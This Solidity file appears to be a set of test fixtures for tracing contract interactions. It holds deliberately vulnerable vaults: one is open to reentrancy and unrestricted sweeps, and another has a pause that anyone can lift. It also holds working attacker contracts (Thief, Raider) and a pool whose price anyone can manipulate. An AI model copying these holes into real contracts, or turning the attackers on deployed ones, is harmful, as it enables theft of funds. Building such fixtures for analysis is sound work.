// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.28;

// Contracts that act on each other without a log, so that only traces show what happens.

/// Pays before it writes down that it paid.
contract SilentVault {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        (bool isPaid, ) = msg.sender.call{value: amount}("");
        require(isPaid);
        balances[msg.sender] = 0;
    }

    /// Anyone may take; used where the way in does not matter.
    function sweep(address payable to, uint256 amount) external {
        to.transfer(amount);
    }
}

contract Thief {
    SilentVault immutable vault;
    uint256 stake;

    constructor(SilentVault target) {
        vault = target;
    }

    function attack() external payable {
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (address(vault).balance >= stake) vault.withdraw();
    }
}

/// Can be drained by anyone unless its guardian pauses it in time.
contract GuardedVault {
    address immutable guardian;
    bool public paused;

    constructor(address guardian_) {
        guardian = guardian_;
    }

    receive() external payable {}

    function pause() external {
        require(msg.sender == guardian);
        paused = true;
    }

    function reopen() external {
        paused = false;
    }

    function sweep(address payable to) external {
        require(!paused, "paused");
        (bool isPaid, ) = to.call{value: address(this).balance}("");
        require(isPaid);
    }
}

/// Takes all that a vault has; nothing in its calls names the vault.
contract Raider {
    GuardedVault immutable vault;

    constructor(GuardedVault target) {
        vault = target;
    }

    function attack() external {
        vault.sweep(payable(msg.sender));
    }
}

/// Calls whatever it is told to, and creates contracts.
contract Router {
    function forward(address target, bytes calldata data) external payable {
        (bool isDone, ) = target.call{value: msg.value}(data);
        require(isDone);
    }

    function tryForward(address target, bytes calldata data) external payable returns (bool isDone) {
        (isDone, ) = target.call{value: msg.value}(data);
    }

    function make(bytes memory code) external returns (address made) {
        assembly {
            made := create2(0, add(code, 32), mload(code), 0)
        }
        require(made != address(0));
    }
}

/// A pool that reports its reserves as those of Uniswap V2 do.
contract ToyPool {
    event Sync(uint112 reserve0, uint112 reserve1);
    uint112 reserve0 = 1000 ether;
    uint112 reserve1 = 1000 ether;

    function getReserves() external view returns (uint112, uint112, uint32) {
        return (reserve0, reserve1, 0);
    }

    function push(uint112 first, uint112 second) public {
        (reserve0, reserve1) = (first, second);
        emit Sync(first, second);
    }

    /// Moves the price, uses the target, and moves the price back.
    function pushAndBack(uint112 first, uint112 second, address target, bytes calldata data) external {
        (uint112 before0, uint112 before1) = (reserve0, reserve1);
        push(first, second);
        (bool isDone, ) = target.call(data);
        require(isDone);
        push(before0, before1);
    }
}
